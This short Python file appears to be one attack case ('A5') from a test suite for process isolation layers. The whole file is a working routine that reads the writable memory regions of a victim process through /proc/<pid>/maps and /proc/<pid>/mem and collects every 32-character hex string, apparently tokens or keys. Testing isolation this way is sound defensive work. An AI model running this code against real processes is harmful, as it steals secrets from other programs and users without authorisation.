# A5: searches all writable memory of another process
# Without layers: may succeed
import re
from pathlib import Path

REGION = re.compile("(?m)^([0-9a-f]+)-([0-9a-f]+) rw")


def attack(facts):
    process = Path(f"/proc/{facts['victim']}")
    found = set()
    with (process / "mem").open("rb") as memory:
        for first, last in REGION.findall((process / "maps").read_text()):
            memory.seek(int(first, 16))
            found |= set(re.findall(rb"[0-9a-f]{32}", memory.read(int(last, 16) - int(first, 16))))
    return b" ".join(found).decode()
